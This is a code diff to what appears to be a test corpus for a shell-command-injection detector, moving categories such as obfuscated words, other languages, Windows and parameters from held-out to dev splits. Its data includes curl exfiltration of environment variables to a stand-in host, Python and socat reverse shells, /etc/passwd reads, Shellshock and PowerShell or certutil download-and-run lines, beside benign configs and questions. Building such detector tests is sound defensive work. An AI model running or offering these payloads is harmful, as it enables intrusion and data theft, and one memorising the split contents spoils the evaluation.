@@ -1,5 +1,5 @@
 import type { CategoryCorpus } from './corpus.ts'
-import { carried, cross, dev, held, some } from './corpus.ts'
+import { carried, cross, dev, some } from './corpus.ts'
 
 const separators = ['; ', ' | ', ' && ', ' || ', ';', '|']
 const hosts = ['10.9.8.7', 'h.example']
@@ -90,7 +90,7 @@ export const shellCorpus: CategoryCorpus = {
       'env | curl -X POST --data-binary @- http://h.example',
       'curl https://h.example/$(id | base64)',
     ]),
-    held(
+    dev(
       'blanks avoided',
       carried(
         some(
@@ -104,7 +104,7 @@ export const shellCorpus: CategoryCorpus = {
         ),
       ),
     ),
-    held('broken words and globs', [
+    dev('broken words and globs', [
       ";c'a't /etc/passwd",
       "|wh''oami",
       '; /???/c?t /etc/passwd',
@@ -118,7 +118,7 @@ export const shellCorpus: CategoryCorpus = {
       '|rev<<<imaohw|sh',
       '() { :;}; /bin/bash -c id',
     ]),
-    held(
+    dev(
       'other languages',
       some(20, [
         ...cross(['python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("'], hosts, [
@@ -132,7 +132,7 @@ export const shellCorpus: CategoryCorpus = {
         ...cross(['socat tcp-connect:'], hosts, [':5 exec:/bin/sh,pty']),
       ]),
     ),
-    held('windows', [
+    dev('windows', [
       '& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
       'powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://h.example/a\')"',
       'x & certutil.exe -urlcache -split -f http://h.example/a.exe a.exe',
@@ -144,7 +144,7 @@ export const shellCorpus: CategoryCorpus = {
       'bitsadmin /transfer j http://h.example/a a.exe',
       'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
     ]),
-    held(
+    dev(
       'parameters',
       some(
         16,
@@ -210,7 +210,7 @@ export const shellCorpus: CategoryCorpus = {
       'Cookie: id=3; theme=dark',
       'image.png; photo.jpg; data.csv',
     ]),
-    held(
+    dev(
       'install guides',
       some(
         16,
@@ -227,7 +227,7 @@ export const shellCorpus: CategoryCorpus = {
         ),
       ),
     ),
-    held('configs', [
+    dev('configs', [
       'CMD ["sh", "-c", "npm run migrate && npm start"]',
       'ExecStart=/usr/bin/node /srv/app.js',
       '*/5 * * * * /usr/local/bin/backup.sh > /dev/null 2>&1',
@@ -241,7 +241,7 @@ export const shellCorpus: CategoryCorpus = {
       'ssh deploy@h.example "cd /srv && ./restart.sh"',
       'tar czf backup.tgz /etc/nginx; scp backup.tgz h.example:',
     ]),
-    held('questions', [
+    dev('questions', [
       'What does `2>&1 | tee log` do?',
       'How do I run two commands, one after the other, only if the first worked?',
       'Why does rm -rf dist fail with permission denied?',
